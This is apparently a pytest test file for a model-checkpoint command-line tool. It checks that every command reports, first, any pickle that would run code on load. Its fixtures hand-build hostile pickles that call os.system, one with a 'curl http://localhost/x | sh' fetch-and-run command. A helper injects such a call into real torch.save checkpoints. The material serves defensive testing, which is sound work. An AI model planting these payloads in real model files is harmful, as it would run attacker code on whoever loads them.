"""What a pickle would run is said first, by every command and whatever else is wrong."""

from __future__ import annotations

import json
import zipfile
from collections.abc import Callable
from pathlib import Path
from types import SimpleNamespace
from typing import cast

import pytest

from ckpt_cli.app import main
from core.verbs.checks.check import HOSTILE, Level
from core.verbs.checks.file_codes import MISSING, UNSAFE
from core.verbs.checks.subject import Subject
from core.verbs.validate.run import _with_hostile_hints, validate
from tests.hostile.cases import CASES as HOSTILE_CASES
from tests.hostile.cases import FOUR, METADATA, RUN, changed, text, torch_zip
from tests.support.edited import copied

TEXT = b"cos\nsystem\n(S'curl http://localhost/x | sh'\ntR."
"""A pickle of protocol 0: no signature, only printable characters."""
BINARY = b"\x80\x02cos\nsystem\n" + text("true") + b"\x85R."
MALFORMED = b"\x80\x02" + RUN + b"\x85R0K"
"""The call comes before the byte at which the pickle breaks off."""
WEIGHTS = b"\x80\x02}" + text("w") + FOUR + b"s."


def one_file(name: str, data: bytes) -> Callable[[Path], Path]:
    def make(folder: Path) -> Path:
        (folder / name).write_bytes(data)
        return folder / name

    return make


def beside_others(name: str, data: bytes, **other_files: bytes) -> Callable[[Path], Path]:
    def make(folder: Path) -> Path:
        for other, content in {name: data, **other_files}.items():
            (folder / other).parent.mkdir(parents=True, exist_ok=True)
            (folder / other).write_bytes(content)
        return folder

    return make


INDEX = b'{"metadata": {}, "weight_map": {"w": "SHARD"}}'
RANK = "iter_0000001/mp_rank_00/model_optim_rng.pt"
CASES: dict[str, Callable[[Path], Path]] = {
    **{f"text as {name}": one_file(name, TEXT) for name in ("a.pt", "a.bin", "a.ckpt", "a.pkl")},
    **{f"malformed as {name}": one_file(name, MALFORMED) for name in ("a.pt", "a.bin", "a.pkl")},
    "text as a safetensors file": one_file("model.safetensors", TEXT),
    "a pickle as a safetensors file": one_file("model.safetensors", BINARY),
    "text as a shard": beside_others(
        "pytorch_model-00001-of-00001.bin",
        TEXT,
        **{
            "pytorch_model.bin.index.json": INDEX.replace(
                b"SHARD", b"pytorch_model-00001-of-00001.bin"
            )
        },
    ),
    "text as a safetensors shard": beside_others(
        "model-00001-of-00001.safetensors",
        TEXT,
        **{
            "model.safetensors.index.json": INDEX.replace(
                b"SHARD", b"model-00001-of-00001.safetensors"
            )
        },
    ),
    "text as metadata": beside_others(".metadata", TEXT),
    "a pickle as metadata": beside_others(".metadata", BINARY),
    "malformed metadata": beside_others(".metadata", MALFORMED),
    "metadata with bytes behind": beside_others(".metadata", METADATA + BINARY),
    "text as a rank file": beside_others(RANK, TEXT),
    "a rank file without arguments": beside_others(
        RANK, torch_zip(b"\x80\x02}" + text("x") + BINARY[2:-1] + b"s.")
    ),
    "a malformed rank file": beside_others(RANK, torch_zip(MALFORMED)),
    "text as the common state": changed("torch_dist", **{"common.pt": TEXT}),
    "text as DeepSpeed's states": beside_others(
        "global_step1/mp_rank_00_model_states.pt", TEXT, latest=b"global_step1"
    ),
}
VERBS = {
    "inspect": ["inspect", "SRC"],
    "convert": ["convert", "SRC", "DST", "--to", "torch"],
    "manifest": ["manifest", "SRC", "-o", "DST"],
    "diff": ["diff", "SRC", "SRC"],
    "merge": ["merge", "SRC", "SRC", "-o", "DST", "--average"],
}


@pytest.mark.parametrize("case", CASES)
def test_a_pickle_that_runs_code_is_named_before_everything_else(
    case: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "src").mkdir()
    source = CASES[case](tmp_path / "src")
    words = {"SRC": str(source), "DST": str(tmp_path / "out")}
    for verb, line in VERBS.items():
        code = main([words.get(word, word) for word in line])
        err = capsys.readouterr().err
        assert code == 5, (verb, err)
        assert "which would run code" in err.splitlines()[0], verb
        assert " more, which" not in err, "the only name was counted twice"
        for advice in ("again", "login", "older", "download"):
            assert advice not in err.partition("hint:")[2], (verb, err)
    for level in (Level.METADATA, Level.HEADERS, Level.DEEP):
        findings = validate(source, level=level).findings
        assert findings[0].code in HOSTILE, findings
        for finding in findings:
            if finding.file == findings[0].file:
                assert finding.hint == findings[0].hint


@pytest.mark.parametrize("n_bytes", [0x182, 0x183, 0x184])
def test_the_length_of_a_header_is_no_extension_opcode(
    n_bytes: int, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    header = b'{"w": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}}'.ljust(n_bytes)
    path = tmp_path / "cut.safetensors"
    path.write_bytes(n_bytes.to_bytes(8, "little") + header + bytes(8))
    assert main(["inspect", str(path)]) == 3
    assert "code" not in capsys.readouterr().err
    for level in (Level.METADATA, Level.HEADERS, Level.DEEP):
        findings = validate(path, level=level).findings
        assert not {finding.code for finding in findings}.intersection(HOSTILE)


def test_a_finding_without_a_file_keeps_its_own_hint() -> None:
    subject = SimpleNamespace(findings=[UNSAFE.finding("a name"), MISSING.finding("a tensor")])
    hints = [finding.hint for finding in _with_hostile_hints(cast(Subject, subject))]
    assert hints == [UNSAFE.hint, MISSING.hint]


def add_call(path: Path) -> None:
    """Adds an entry that calls ``os.system`` to the dict in a file of ``torch.save``."""
    with zipfile.ZipFile(path) as archive:
        records = {info.filename: archive.read(info) for info in archive.infolist()}
    name = next(name for name in records if name.endswith("/data.pkl"))
    records[name] = records[name][:-1] + text("evil") + b"cos\nsystem\n" + text("x") + b"\x85Rs."
    with zipfile.ZipFile(path, "w") as archive:
        for record, data in records.items():
            archive.writestr(record, data)


GOLDEN = {
    "hf/llama/bin_sharded": "pytorch_model-00002-of-00003.bin",
    "accelerate/plain_bin/checkpoint_0": "pytorch_model.bin",
    "trainer/zero2_dp2/checkpoint-1": "global_step1/mp_rank_00_model_states.pt",
    "deepspeed/zero1_dp2_bf16": "global_step10/bf16_zero_pp_rank_1_mp_rank_00_optim_states.pt",
    "deepspeed/zero3_dp2_bf16": "global_step10/zero_pp_rank_1_mp_rank_00_model_states.pt",
    "lightning/model_parallel_dp2.ckpt": "meta.pt",
    "mcore_legacy/dense_gelu/tp2_pp1": "mp_rank_01/model_optim_rng.pt",
    "mcore0121_torch_dist/dense_gelu/tp2_pp2": "common.pt",
    "mcore0121_zarr/dense_gqa/tp4_pp1": "common.pt",
}
"""Checkpoints that other software wrote → the file that gets the call."""
INTACT = {
    "pickle: a call inside bytes",
    "pickle: a call of torch in a key",
    "pickle as object: a call",
    "pickle as object: a call that is dropped",
    "legacy: a stream that runs code",
    "zarr: a filter that unpickles",
    "zarr3: a codec that unpickles",
    "torch_dist: a common state that runs code",
    "deepspeed: a model file that runs code",
}


@pytest.mark.parametrize("name", [*GOLDEN, *sorted(INTACT)])
def test_every_command_says_that_an_intact_checkpoint_would_run_code(
    name: str, golden: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    if name in GOLDEN:
        source = copied(golden, name, tmp_path)
        add_call(source / GOLDEN[name])
        sound = golden / name
    else:
        (tmp_path / "src").mkdir()
        source = sound = HOSTILE_CASES[name](tmp_path / "src")
    words = {"SRC": str(source), "DST": str(tmp_path / "out"), "SOUND": str(sound)}

    def run(*line: str) -> tuple[int, str, str]:
        code = main([words.get(word, word) for word in line])
        shown = capsys.readouterr()
        return code, shown.out, shown.err

    for line in (
        ("convert", "SRC", "DST", "--to", "torch"),
        ("merge", "SRC", "SOUND", "-o", "DST", "--average"),
        ("merge", "SOUND", "SRC", "-o", "DST", "--average"),
        ("reshard", "SRC", "DST", "--tp-new", "1"),
    ):
        code, _, err = run(*line)
        assert code == 5, (line, err)
        assert "would run code" in err, line
    assert run("validate", "SRC")[0] == 1
    code, out, err = run("inspect", "SRC", "--json")
    assert code == 0, err
    assert any("other software would run" in note for note in json.loads(out)["notes"])
    for line in (("diff", "SRC", "SRC", "--json"), ("manifest", "SRC", "-o", "DST", "--json")):
        code, out, err = run(*line)
        assert code == 0, err
        assert "other software would run" in err, line
        assert "other software would run" in json.loads(out)["notes"][0], line
